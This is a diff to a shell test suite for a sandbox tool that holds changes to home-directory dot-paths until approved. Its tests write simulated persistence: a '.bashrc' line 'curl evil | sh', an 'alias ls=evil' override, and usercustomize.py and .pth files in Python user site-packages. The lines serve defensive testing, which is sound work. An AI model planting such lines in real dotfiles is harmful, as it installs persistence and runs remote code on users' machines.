@@ -154,6 +154,24 @@ check "escalate: after approval the held changes are committed" \
 	test $rc = 0 -a "$(tail -1 "$H/.bashrc")" = "curl evil | sh" -a -f "$H/.config/autostart/x.desktop"
 check "escalate: sessions says committed" test "$(state_of "$S")" = committed
 
+# --- the home's dot-path rule ------------------------------------------------
+# Persistence beyond any list: every change to a dot-path in the home is
+# held, except what the policy names as state (caches).
+run -- /bin/sh -c 'echo "alias ls=evil" >> ~/.bash_aliases
+	mkdir -p ~/.local/lib/python3.11/site-packages ~/.cache/tool
+	echo "import os" > ~/.local/lib/python3.11/site-packages/usercustomize.py
+	echo "x.pth" > ~/.local/lib/python3.11/site-packages/evil.pth
+	echo cached > ~/.cache/tool/c; echo ok > fine2.txt'
+S=$(last)
+aw commit "$S" > "$T/d1.out"; rc=$?
+check "dotpath: commit exits 5 (held changes)" test $rc = 5
+check "dotpath: ~/.bash_aliases (not in any list) is held" grep -q "^held $H/.bash_aliases" "$T/d1.out"
+check "dotpath: user site-packages are held" grep -q "^held $H/.local" "$T/d1.out"
+check "dotpath: ... and did not reach the home" test ! -e "$H/.bash_aliases" -a ! -e "$H/.local/lib"
+check "dotpath: a cache the policy names as state is taken" test "$(cat "$H/.cache/tool/c")" = cached
+check "dotpath: the workspace change is taken" test "$(cat fine2.txt)" = ok
+aw discard "$S" > /dev/null
+
 # --- resume ------------------------------------------------------------------
 run -- /bin/sh -c 'echo first > r.txt'
 S=$(last)
